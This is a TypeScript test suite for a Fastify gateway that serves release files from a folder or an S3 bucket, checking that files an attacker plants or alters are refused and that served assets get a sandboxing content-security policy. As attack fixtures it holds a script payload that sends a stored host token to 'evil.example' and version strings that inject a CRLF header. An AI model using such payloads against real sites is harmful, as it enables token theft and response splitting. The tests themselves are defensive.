import { brotliCompressSync } from 'node:zlib';
import { startS3Server } from '@tessera/object-storage/testing/s3-server';
import { ABSENT_HEADER, ASKED_HEADER, type ReleaseStore, storageFromEnvironment, storeKeys } from '@tessera/releases';
import { folderWith, newVersionOf, testReleases } from '@tessera/releases/testing';
import fastify, { type FastifyInstance, type LightMyRequestResponse } from 'fastify';
import { describe, expect, onTestFinished, test } from 'vitest';
import { serveFiles } from './file-routes.ts';

const VERSION = '1.0.0';
const STEALS =
  '<script>/* steal */ fetch("https://evil.example/" + localStorage.getItem("tessera.host.token"))</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg">${STEALS}</svg>`;

const inFolder = async (): Promise<ReleaseStore> => (await testReleases()).store;

async function inBucket(): Promise<ReleaseStore> {
  const bucket = await startS3Server();
  onTestFinished(() => bucket.stop());
  const { endpoint, region, accessKeyId, secretAccessKey } = bucket.settings;
  const env = {
    S3_BUCKET: bucket.settings.bucket,
    S3_ENDPOINT: endpoint,
    S3_REGION: region,
    S3_ACCESS_KEY_ID: accessKeyId,
    S3_SECRET_ACCESS_KEY: secretAccessKey,
  };
  return (await testReleases(undefined, await storageFromEnvironment(env, '/nowhere'))).store;
}

/** A gateway on a store with one version; the attacker writes into the store. */
async function attacked(store: ReleaseStore) {
  const built = await folderWith({
    'remoteEntry.js': 'entry',
    'page.1f.js': 'the page',
    'page.1f.js.br': brotliCompressSync('the page'),
    'icon.svg': SVG,
    'report.html': STEALS,
  });
  await store.publish(newVersionOf('markets', VERSION), built);
  const gateway: FastifyInstance = fastify();
  onTestFinished(() => gateway.close());
  let passed = 0;
  await serveFiles(gateway, { host: '/', console: '/', releases: store, now: () => passed });
  return {
    /** What was missing counts as missing for a second. */
    later: () => {
      passed += 1_000;
    },
    write: (path: string, content: string | Uint8Array, version = VERSION) =>
      store.storage.put(storeKeys.file('markets', version, path), Buffer.from(content)),
    remove: (path: string) => store.storage.remove(storeKeys.file('markets', VERSION, path)),
    read: (path: string, version = VERSION, headers = {}): Promise<LightMyRequestResponse> =>
      gateway.inject({
        url: `/h5/remotes/markets/${version}/${path}`,
        headers: { 'accept-encoding': 'br', ...headers },
      }),
  };
}

describe.each([
  ['a folder', inFolder],
  ['a bucket', inBucket],
])('with write access to %s', (_where, open) => {
  test.each(['steal.html', 'steal.svg', 'steal.js', 'steal.xhtml', 'steal.json', 'steal'])(
    'a file that no record names (%s) is not served',
    async (path) => {
      const { write, read } = await attacked(await open());
      await write(path, STEALS);
      await write(path, STEALS, '6.6.6');
      expect([(await read(path)).statusCode, (await read(path, '6.6.6')).statusCode]).toEqual([404, 404]);
    },
  );

  test('another content under a recorded name is not served, compressed or plain', async () => {
    const { write, read, later } = await attacked(await open());
    await write('page.1f.js', STEALS);
    await write('page.1f.js.br', brotliCompressSync(STEALS));
    const response = await read('page.1f.js');
    expect(response.body).not.toContain('steal');
    expect(response.statusCode).toBe(404);
    await write('page.1f.js', 'the page');
    later();
    expect([(await read('page.1f.js')).statusCode, (await read('page.1f.js')).body]).toEqual([200, 'the page']);
  });

  test('a published document is not served, and a published image can do nothing as a document', async () => {
    const { read } = await attacked(await open());
    expect((await read('report.html')).statusCode).toBe(404);
    const image = await read('icon.svg');
    expect([image.statusCode, image.headers['content-type']]).toEqual([200, 'image/svg+xml']);
    for (const path of ['icon.svg', 'remoteEntry.js', 'page.1f.js']) {
      expect((await read(path)).headers['content-security-policy']).toBe(
        "sandbox; default-src 'none'; frame-ancestors 'none'",
      );
    }
  });

  test('a file that is gone or altered is a 404 with the mark of the gateway, for who asks and for nobody after', async () => {
    const { write, remove, read, later } = await attacked(await open());
    const [one, two] = ['1'.repeat(32), '2'.repeat(32)];
    const mark = async (path: string, asked: string, version?: string) => {
      const { statusCode, headers } = await read(path, version, { [ASKED_HEADER]: asked });
      return [statusCode, headers[ABSENT_HEADER], headers['cache-control']].join(', ');
    };
    expect(await mark('page.1f.js', one)).toBe('200, , public, max-age=31536000, immutable');
    await remove('remoteEntry.js');
    expect(await mark('remoteEntry.js', one)).toMatch(`404, markets@${VERSION} load ${one}`);
    expect(await mark('remoteEntry.js', two)).toMatch(`404, markets@${VERSION} load ${two}`);
    await write('remoteEntry.js', STEALS);
    later();
    expect(await mark('remoteEntry.js', one)).toMatch(`404, markets@${VERSION} integrity ${one}`);
    expect(await mark('none.js', one)).toMatch(`404, markets@${VERSION} load ${one}`);
    expect(await mark('remoteEntry.js', one, '6.6.6')).toMatch(`404, markets@6.6.6 load ${one}`);
    for (const asked of ['', 'yes', `${one} x`, one.slice(1), `${one}0`])
      expect((await read('none.js', VERSION, { [ASKED_HEADER]: asked })).headers[ABSENT_HEADER], asked).toBeUndefined();
    for (const version of ['1%0d%0aset-cookie:%20a=b', '1%20load', '1%E2%80%A8'])
      expect((await read('none.js', version, { [ASKED_HEADER]: one })).headers[ABSENT_HEADER], version).toBeUndefined();
    await write('remoteEntry.js', 'entry');
    later();
    expect(await mark('remoteEntry.js', one)).toMatch(/^200, ,/);
  });
});
